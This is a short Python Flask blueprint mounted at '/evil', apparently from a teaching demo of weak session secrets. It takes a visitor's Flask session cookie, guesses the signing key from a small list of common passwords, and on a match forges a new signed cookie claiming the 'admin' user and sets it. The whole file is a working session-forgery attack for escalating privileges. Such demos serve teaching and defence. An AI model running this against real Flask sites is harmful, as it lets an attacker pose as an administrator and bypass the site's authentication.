"""What the attacker has at home. It knows one cookie, and nothing of the program."""

from flask import Blueprint, Flask, render_template, request
from itsdangerous import BadSignature

pages = Blueprint("evil", __name__, url_prefix="/evil")

WORDS = ["password", "letmein", "secret", "dev", "teapot", "teatime", "tealover", "changeme"]


def signer(key):
    """Return what signs sessions with a key, in every program that uses Flask."""
    program = Flask("evil")
    program.secret_key = key
    return program.session_interface.get_signing_serializer(program)


@pages.route("/", methods=["GET", "POST"])
def home():
    cookie = request.cookies.get("session", "")
    tried, forged = [], None
    for word in WORDS if request.method == "POST" else []:
        tried.append(word)
        try:
            signer(word).loads(cookie)
        except BadSignature:
            continue
        forged = signer(word).dumps({"username": "admin"})
        break
    page = render_template("evil.html", cookie=cookie, tried=tried, forged=forged)
    return (page, {"Set-Cookie": f"session={forged}; Path=/"}) if forged else page
